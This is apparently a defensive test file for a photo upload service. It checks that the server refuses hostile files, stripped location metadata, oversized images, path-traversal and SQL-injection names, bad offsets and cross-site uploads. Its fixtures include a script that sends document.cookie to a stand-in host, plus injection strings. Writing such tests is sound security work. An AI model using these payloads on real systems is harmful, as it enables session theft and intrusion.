import { beforeAll, describe, expect, test } from 'vitest'
import { PART_BYTES } from '../../shared/photo/photo.ts'
import * as file from '../fixtures/photo/files.ts'
import { hashOf, partsOf, showing } from '../worker/photo.ts'
import { Office, creating, progress } from '../sync/office.ts'
import { attack, keepCounts } from './ledger.ts'

keepCounts('photos')

let office: Office
let pcso: string
let seq = 10
beforeAll(async () => {
  office = await Office.open()
  pcso = await office.signIn('pcso')
  await office.push(pcso, 'd', [creating('update', 'u', progress('pcso'), 1)])
})

const { ascii, baseline, joined, segment, withFirst } = file
const script = ascii('<script>fetch("https://elsewhere.test/"+document.cookie)</script>')
const gps = ascii('GPSLatitude 51.1465 GPSLongitude 0.8750')

const put = (bytes: Uint8Array, at = 0, hash = hashOf(bytes), headers = {}) =>
  office.fetch(`/api/photos/${hash}/${at}`, {
    method: 'PUT',
    headers: { Cookie: pcso, ...headers },
    body: Uint8Array.from(bytes),
  })
const isStored = () => office.bucket.keys().length > 0

/** Says in a row that these bytes are a photo, and sends them: whoever may write can do both. */
async function upload(bytes: Uint8Array, said: object = {}, headers = {}): Promise<boolean> {
  office.bucket.objects.clear()
  const row = showing(bytes, {}, 1) as ReturnType<typeof showing> & { entry: { picture: object } }
  const picture = { ...row.entry.picture, ...said }
  await office.push(pcso, `d-${++seq}`, [{ ...row, entry: { ...row.entry, picture } }])
  for (const [at, part] of partsOf(bytes)) await put(part, at, hashOf(bytes), headers)
  return isStored()
}

describe('hostile uploads', () => {
  const half = (bytes: Uint8Array) => bytes.subarray(0, Math.floor(bytes.length / 2))
  const files: [said: string, bytes: Uint8Array, type?: string][] = [
    ['a page called a photo', script],
    ['a drawing with script', joined(ascii('<svg xmlns="http://www.w3.org/2000/svg">'), script)],
    ['a PDF', ascii('%PDF-1.7\n%âãÏÓ')],
    ['an archive', ascii('PK\x03\x04\x14\x00')],
    ['a programme', ascii('MZ\x90\x00')],
    ['a script with a picture’s first bytes', joined(Uint8Array.of(0xff, 0xd8, 0xff), script)],
    ['EXIF with a place', withFirst(baseline(), file.exif(6))],
    [
      'EXIF behind the tables',
      joined(baseline().subarray(0, -2), file.exif(1), baseline().subarray(-2)),
    ],
    ['a place in a comment', withFirst(baseline(), segment(0xfe, gps))],
    [
      'a place in every APP segment',
      withFirst(baseline(), ...Array.from({ length: 16 }, (_, nth) => segment(0xe0 + nth, gps))),
    ],
    [
      'a place in XMP',
      withFirst(baseline(), segment(0xe1, joined(ascii('http://ns.adobe.com/xap/1.0/\0'), gps))),
    ],
    ['a place behind the end', joined(baseline(), gps)],
    ['script behind the end', joined(baseline(), script)],
    ['an archive behind the end', joined(baseline(), ascii('PK\x03\x04\x14\x00'))],
    [
      'a preview of the whole, unblurred',
      withFirst(baseline(), segment(0xe0, joined(ascii('JFXX\0\x10'), baseline()))),
    ],
    ['a second picture behind the first', joined(baseline(), baseline())],
    ['a WebP with a place', file.webpWith(8, ['EXIF', gps]), 'image/webp'],
    ['a WebP with XMP', file.webpWith(4, ['XMP ', gps]), 'image/webp'],
    ['a WebP that moves', file.webpWith(2, ['ANIM', new Uint8Array(6)]), 'image/webp'],
    ['a WebP with a chunk of its own', file.webpWith(0, ['abcd', gps]), 'image/webp'],
    ['a JPEG called a WebP', file.resized(baseline(), 33, 24), 'image/webp'],
    ['a WebP called a JPEG', file.webpLossless()],
    ['a GIF', file.gif(1)],
    ['a GIF that moves', file.gif(30)],
    ['a PNG', file.png(32, 24)],
    ['a PNG that unpacks to 100 megapixels', file.png(10_000, 10_000)],
    ['a JPEG of 4,294 megapixels', file.resized(baseline(), 65_535, 65_535)],
    ['a JPEG of 100 megapixels', file.resized(baseline(), 10_000, 10_000)],
    ['a JPEG of no height', file.resized(baseline(), 32, 0)],
    ['half a JPEG', half(baseline())],
    ['a JPEG without its end', baseline().subarray(0, -2)],
    ['a progressive JPEG', file.progressive()],
    [
      'a JPEG whose length points outside',
      withFirst(baseline(), Uint8Array.of(0xff, 0xe0, 0xff, 0xff)),
    ],
    ['a JPEG whose length is nothing', withFirst(baseline(), Uint8Array.of(0xff, 0xe0, 0, 0))],
    [
      'a JPEG that begins again and again',
      joined(...Array.from({ length: 500 }, () => Uint8Array.of(0xff, 0xd8)), baseline()),
    ],
    [
      'a million markers',
      joined(
        baseline().subarray(0, 2),
        new Uint8Array(1_000_000).fill(0xff),
        baseline().subarray(2),
      ),
    ],
  ]
  test.each(files)('%s is not stored', async (said, bytes, type = 'image/jpeg') => {
    // The row claims whatever a photo would have to be.
    await attack('hostile upload', said, () => upload(bytes, { type }))
  })

  test('a header that calls them a photo helps none of them', async () => {
    for (const [said, bytes] of files) {
      const headers = { 'Content-Type': 'image/jpeg' }
      await attack('hostile upload', `${said}, called a JPEG`, () => upload(bytes, {}, headers))
    }
  })

  test.each<[said: string, name: string]>([
    ['another’s folder', '..%2f..%2fparts%2fdover'],
    ['a path', 'dover/photos'],
    ['a name in capitals', hashOf(baseline()).toUpperCase()],
    ['a name with more behind it', `${hashOf(baseline())}%00.html`],
    ['a prototype', '__proto__'],
    ['SQL', `'%20or%201=1%20--`],
    ['an endless name', 'a'.repeat(4000)],
  ])('%s is no place to put it', async (said, name) => {
    office.bucket.objects.clear()
    await attack('upload by name', said, async () => {
      const answer = await put(baseline(), 0, name)
      const read = await office.get(`/api/photos/${name}`, pcso)
      return isStored() || answer.status !== 404 || read.status !== 404
    })
  })

  test.each<[said: string, at: unknown]>([
    ['minus one', -1],
    ['a half', 0.5],
    ['infinity', 'Infinity'],
    ['a billion', 1e9],
    ['words', 'x'],
    ['nothing', ''],
  ])('a part that begins at %s is not stored', async (said, at) => {
    const whole = file.padded(baseline(), 2 * PART_BYTES)
    await office.push(pcso, `d-${++seq}`, [showing(whole, {}, 1)])
    office.bucket.objects.clear()
    await attack('upload by offset', said, async () => {
      const { status } = await put(whole.subarray(0, PART_BYTES), at as number, hashOf(whole))
      return status >= 500 || isStored()
    })
  })

  test('other bytes do not take the place of a photo that is there', async () => {
    const hash = hashOf(baseline())
    await upload(baseline())
    for (const other of [file.resized(baseline(), 40, 24), script, file.webpLossy()]) {
      await attack('upload over another', `${other.length} bytes`, async () => {
        await put(other, 0, hash)
        const read = await office.get(`/api/photos/${hash}`, pcso)
        return hashOf(new Uint8Array(await read.arrayBuffer())) !== hash
      })
    }
  })

  test('a page elsewhere puts nothing here in somebody’s name', async () => {
    await office.push(pcso, `d-${++seq}`, [showing(baseline(), {}, 1, 'dddddd')])
    for (const headers of [
      { Origin: 'https://elsewhere.test' },
      { 'Sec-Fetch-Site': 'cross-site' },
    ]) {
      office.bucket.objects.clear()
      await attack('upload from elsewhere', JSON.stringify(headers), async () => {
        const { status } = await put(baseline(), 0, undefined, headers)
        return status !== 403 || isStored()
      })
    }
  })

  test('what is stored is what any phone makes: the same walk with a true photo does get through', async () => {
    expect(await upload(baseline())).toBe(true)
    expect(await upload(file.webpLossy(), { type: 'image/webp' })).toBe(true)
  })
})
